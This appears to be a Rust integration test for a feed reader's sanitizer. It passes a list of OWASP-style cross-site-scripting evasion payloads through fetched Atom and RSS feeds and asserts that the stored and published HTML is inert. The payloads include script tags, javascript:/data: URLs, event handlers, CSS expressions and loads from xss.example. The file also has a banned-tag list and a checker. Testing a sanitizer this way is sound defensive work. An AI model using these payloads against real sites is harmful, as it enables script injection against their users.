//! Hostile content: cross-site-scripting vectors in the style of the OWASP
//! filter-evasion cheat sheet, placed in every field a feed can fill
//! (titles, content, summaries, author names, links, enclosure URLs), go
//! through the real `tributary fetch`. What is stored as HTML, and every
//! document the real server publishes from the store, must carry no script, event handler,
//! `javascript:`/`vbscript:`/`data:` URL, style, form, frame, object or
//! meta refresh; and the rendered XML and JSON stay well-formed and valid
//! whatever the input held (control characters, `]]>`, huge attributes).
//!
//! The HTML check reads the stored markup as the serializer wrote it
//! (text `<` is always escaped there, attribute values always quoted), so
//! every `<` starts a real tag.

use std::process::Command;

use tributary::syndication::Format;

use crate::served::Running;

use crate::util::*;

/// Script vectors, most from the OWASP XSS filter-evasion cheat sheet.
const VECTORS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT/XSS SRC=\"http://xss.example/xss.js\"></SCRIPT>",
    "<<SCRIPT>alert(\"XSS\");//<</SCRIPT>",
    "<SCRIPT SRC=http://xss.example/xss.js?< B >",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<a href=\"java\u{0}script:alert(1)\">nul</a>",
    "<a href=\"javascript&colon;alert(1)\">colon</a>",
    "<a href=\"  JAVASCRIPT:alert(1)\">spaces</a>",
    "<a href=\"vbscript:msgbox(1)\">vb</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\"><IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script><a xlink:href=\"javascript:alert(1)\">s</a></svg>",
    "<math><mi xlink:href=\"javascript:alert(1)\">m</mi></math>",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME><iframe src=http://xss.example/x <",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">d</DIV>",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">e</DIV>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<div style=\"-moz-binding:url(http://xss.example/x.xml#xss)\">b</div>",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.example/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<form action=\"javascript:alert(1)\"><button formaction=javascript:alert(1)>x</button><textarea>t</textarea></form>",
    "<details open ontoggle=alert(1)>d</details><video><source onerror=\"alert(1)\"></video>",
    "<img src=x onerror=alert(1)//",
    "<a href=\"http://ok.example/\" onclick=\"alert(1)\" style=\"color:red\" target=_blank>ok</a>",
    "\u{0}\u{1}<p title=\"]]>\u{7}\">control ]]> characters\u{1b}</p>",
];

/// Elements that must never survive in stored or published HTML.
const BANNED_TAGS: &[&str] = &[
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "input",
    "button", "textarea", "select", "meta", "link", "base", "svg", "math", "body", "html", "head",
];

/// Attributes whose value is a URL.
const URL_ATTRS: &[&str] = &[
    "href",
    "src",
    "action",
    "formaction",
    "poster",
    "cite",
    "data",
    "srcset",
    "background",
    "dynsrc",
    "lowsrc",
    "xlink:href",
];

/// Panics when `html` (serializer output) holds anything that can run.
pub fn assert_inert(html: &str, what: &str) {
    let lower = html.to_ascii_lowercase();
    let mut rest = lower.as_str();
    while let Some(lt) = rest.find('<') {
        let tag_start = &rest[lt + 1..];
        let body = tag_start.strip_prefix('/').unwrap_or(tag_start);
        let name_len = body
            .bytes()
            .take_while(|b| b.is_ascii_alphanumeric())
            .count();
        assert!(
            name_len > 0,
            "{what}: a bare `<` in serialized HTML: {html}"
        );
        let name = &body[..name_len];
        assert!(
            !BANNED_TAGS.contains(&name),
            "{what}: <{name}> survived: {html}"
        );
        // Attributes up to the closing '>', quoted values skipped whole.
        let mut attrs = &body[name_len..];
        loop {
            attrs = attrs.trim_start_matches(|c: char| c.is_ascii_whitespace() || c == '/');
            if attrs.starts_with('>') || attrs.is_empty() {
                break;
            }
            let an_len = attrs
                .find(|c: char| c == '=' || c == '>' || c.is_ascii_whitespace())
                .unwrap_or(attrs.len());
            let an = &attrs[..an_len];
            attrs = &attrs[an_len..];
            let mut value = "";
            if let Some(v) = attrs.strip_prefix('=') {
                let q = v.chars().next().unwrap_or(' ');
                let (val, after) = if q == '"' || q == '\'' {
                    let end = v[1..].find(q).map_or(v.len(), |e| e + 1);
                    (&v[1..end], v.get(end + 1..).unwrap_or(""))
                } else {
                    let end = v
                        .find(|c: char| c.is_ascii_whitespace() || c == '>')
                        .unwrap_or(v.len());
                    (&v[..end], &v[end..])
                };
                value = val;
                attrs = after;
            }
            assert!(!an.starts_with("on"), "{what}: event handler {an}: {html}");
            assert!(
                !matches!(an, "style" | "srcdoc" | "http-equiv"),
                "{what}: {an} attribute: {html}"
            );
            if URL_ATTRS.contains(&an) {
                let decoded = html_escape::decode_html_entities(value);
                let squeezed: String = decoded
                    .chars()
                    .filter(|c| !c.is_control() && *c != ' ')
                    .collect::<String>()
                    .to_ascii_lowercase();
                // srcset holds several "url width" candidates.
                for url in squeezed.split(',') {
                    for scheme in ["javascript:", "vbscript:", "data:"] {
                        assert!(!url.starts_with(scheme), "{what}: {an}={value}: {html}");
                    }
                }
            }
        }
        rest = &tag_start[1..];
    }
}

/// An absolute http(s) URL, or nothing.
fn assert_web_url(url: &str, what: &str) {
    assert!(
        url.starts_with("http://") || url.starts_with("https://"),
        "{what}: {url}"
    );
}

fn atom_feed() -> String {
    let mut s = String::from(
        "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<feed xmlns=\"http://www.w3.org/2005/Atom\"><title>Hostile &lt;script&gt;alert(1)&lt;/script&gt;</title><id>urn:hostile</id><updated>2026-01-01T00:00:00Z</updated>\n",
    );
    let huge = "x".repeat(100_000);
    for (i, v) in VECTORS.iter().enumerate() {
        let text = html_escape::encode_text(v);
        let attr = html_escape::encode_double_quoted_attribute(v);
        let link = [
            "javascript:alert(1)",
            " jAvAsCrIpT:alert(1)",
            "data:text/html,<script>alert(1)</script>",
            "vbscript:x",
        ][i % 4];
        s.push_str(&format!(
            "<entry><id>urn:v{i}</id><title type=\"html\">{text}</title><updated>2026-01-01T00:00:00Z</updated>\
             <link rel=\"alternate\" href=\"{}\"/><link rel=\"enclosure\" href=\"{}\" type=\"audio/mpeg\" length=\"1\"/>\
             <link rel=\"enclosure\" href=\"https://ok.example/{i}.mp3\" type=\"{attr}\" length=\"1\"/>\
             <author><name>{text}</name></author><category term=\"{attr}\"/>\
             <summary type=\"html\">{text}</summary><content type=\"html\">&lt;p title=\"{huge}\"&gt;{text}&lt;/p&gt;</content></entry>\n",
            html_escape::encode_double_quoted_attribute(link),
            html_escape::encode_double_quoted_attribute(link),
        ));
    }
    s.push_str("</feed>\n");
    s
}

fn rss_feed() -> String {
    let mut s = String::from(
        "<?xml version=\"1.0\"?><rss version=\"2.0\" xmlns:content=\"http://purl.org/rss/1.0/modules/content/\" xmlns:dc=\"http://purl.org/dc/elements/1.1/\"><channel><title>R]]&gt;</title><link>https://r.example/</link>\n",
    );
    for (i, v) in VECTORS.iter().enumerate() {
        // CDATA cannot hold "]]>": split it the way publishers do.
        let cdata = v.replace("]]>", "]]]]><![CDATA[>");
        s.push_str(&format!(
            "<item><guid>r{i}</guid><title>{}</title><link>javascript:alert({i})</link>\
             <description><![CDATA[{cdata}]]></description><content:encoded><![CDATA[<div>{cdata}</div>]]></content:encoded>\
             <dc:creator>{}</dc:creator><enclosure url=\"javascript:alert({i})\" type=\"audio/mpeg\" length=\"1\"/></item>\n",
            html_escape::encode_text(v),
            html_escape::encode_text(v),
        ));
    }
    s.push_str("</channel></rss>\n");
    s
}

fn tool(program: &str) -> bool {
    let ok = Command::new(program)
        .arg("--version")
        .output()
        .is_ok_and(|o| o.status.success());
    if !ok {
        crate::util::skip(&format!("in hostile content: `{program}` is not installed"));
    }
    ok
}

#[test]
fn hostile_content_is_stored_and_published_inert() {
    let server = FeedServer::start();
    server.set("/atom", Route::feed(atom_feed()));
    server.set("/rss", Route::feed(rss_feed()));
    let s = Scratch::new();
    s.write_config(
        "[river]\nlimit = 1000\n",
        &[("atom", &server.url("/atom")), ("rss", &server.url("/rss"))],
    );
    let out = s.tributary(&["fetch", "--json"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        s.count("SELECT count(*) FROM entries") as usize,
        2 * VECTORS.len(),
        "{}",
        stdout(&out)
    );

    // Stored HTML, links and enclosures.
    let db = s.db();
    let mut st = db
        .prepare("SELECT coalesce(content_html, ''), coalesce(summary_html, ''), coalesce(url, ''), enclosures, title, authors FROM articles JOIN article_html USING (id)")
        .unwrap();
    let rows: Vec<(String, String, String, String, String, String)> = st
        .query_map([], |r| {
            Ok((
                r.get(0)?,
                r.get(1)?,
                r.get(2)?,
                r.get(3)?,
                r.get(4)?,
                r.get(5)?,
            ))
        })
        .unwrap()
        .map(Result::unwrap)
        .collect();
    for (content, summary, url, enclosures, title, authors) in &rows {
        assert_inert(content, "content_html");
        assert_inert(summary, "summary_html");
        assert!(url.is_empty(), "a script link was kept: {url}");
        for e in serde_json::from_str::<Vec<serde_json::Value>>(enclosures).unwrap() {
            assert_web_url(e["url"].as_str().unwrap(), "enclosure");
        }
        for text in [title, authors] {
            assert!(
                !text.chars().any(|c| c.is_control()),
                "control character in {text:?}"
            );
        }
    }

    // Published: what the real server sends for the default output, one
    // item per story.
    let stories = s.count("SELECT count(DISTINCT story_id) FROM articles") as usize;
    let served = Running::start(&s.config_path());
    let dir = tempfile::tempdir().unwrap();
    for format in Format::ALL {
        let answer = served.get(&format!("/feed.{}", format.extension()));
        assert_eq!(answer.status, 200, "{format:?}");
        let doc = answer.body;
        let path = dir.path().join(format!("out.{}", format.extension()));
        std::fs::write(&path, &doc).unwrap();
        let text = String::from_utf8(doc.clone()).unwrap();
        if format == Format::JsonFeed {
            let v: serde_json::Value = serde_json::from_str(&text).expect("JSON Feed parses");
            assert_eq!(v["items"].as_array().unwrap().len(), stories);
            for item in v["items"].as_array().unwrap() {
                assert_inert(
                    item["content_html"].as_str().unwrap_or(""),
                    "JSON content_html",
                );
                for key in ["url", "external_url"] {
                    if let Some(u) = item[key].as_str() {
                        assert_web_url(u, key);
                    }
                }
                for a in item["attachments"].as_array().into_iter().flatten() {
                    assert_web_url(a["url"].as_str().unwrap(), "attachment");
                }
            }
        } else {
            let feed = feed_rs::parser::parse(doc.as_slice())
                .unwrap_or_else(|e| panic!("{format:?}: {e}"));
            assert_eq!(feed.entries.len(), stories, "{format:?}");
            for e in &feed.entries {
                for body in e.content.iter().filter_map(|c| c.body.as_deref()) {
                    assert_inert(body, "published content");
                }
                for l in &e.links {
                    assert_web_url(&l.href, "published link");
                }
            }
            // Every URL-valued attribute in the document itself.
            let mut reader = quick_xml::Reader::from_str(&text);
            loop {
                match reader.read_event().unwrap() {
                    quick_xml::events::Event::Start(t) | quick_xml::events::Event::Empty(t) => {
                        for a in t.attributes() {
                            let a = a.unwrap();
                            if matches!(a.key.as_ref(), "href" | "url" | "src") {
                                let v = a.value.into_owned();
                                assert_web_url(
                                    &html_escape::decode_html_entities(&v),
                                    "XML attribute",
                                );
                            }
                        }
                    }
                    quick_xml::events::Event::Eof => break,
                    _ => {}
                }
            }
        }
        if format != Format::JsonFeed && tool("xmllint") {
            let o = Command::new("xmllint")
                .arg("--noout")
                .arg(&path)
                .output()
                .unwrap();
            assert!(
                o.status.success(),
                "{format:?} not well-formed: {}",
                String::from_utf8_lossy(&o.stderr)
            );
        }
    }
    let validators = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/validators");
    if !validators.is_dir() {
        crate::util::skip(&format!(
            "hostile content against the schemas: no {}",
            validators.display()
        ));
    } else if tool("check-jsonschema") && tool("xmllint") {
        let o = Command::new("xmllint")
            .args(["--noout", "--relaxng"])
            .arg(validators.join("atom.rng"))
            .arg(dir.path().join("out.atom"))
            .output()
            .unwrap();
        assert!(
            o.status.success(),
            "Atom invalid: {}",
            String::from_utf8_lossy(&o.stderr)
        );
        let o = Command::new("check-jsonschema")
            .arg("--schemafile")
            .arg(validators.join("jsonfeed-v1.1.schema.json"))
            .arg(dir.path().join("out.json"))
            .output()
            .unwrap();
        assert!(
            o.status.success(),
            "JSON Feed invalid: {}",
            String::from_utf8_lossy(&o.stdout)
        );
    }
}

#[test]
fn the_inert_check_catches_what_it_must() {
    for bad in [
        "<p>a</p><script>x</script>",
        "<img src=\"x\" onerror=\"y\">",
        "<a href=\" &#106;avascript:alert(1)\">x</a>",
        "<a href=\"\tdata:text/html,x\">x</a>",
        "<img srcset=\"https://a.example/1.png 1x, javascript:x 2x\">",
        "<div style=\"x\">y</div>",
        "<meta http-equiv=\"refresh\" content=\"0\">",
    ] {
        let caught = std::panic::catch_unwind(|| assert_inert(bad, "sample")).is_err();
        assert!(caught, "not caught: {bad}");
    }
    assert_inert(
        "<p title=\"a > b\">ok &lt;script&gt; <a href=\"https://x.example/javascript:1\" rel=\"noopener\">l</a></p>",
        "sample",
    );
}
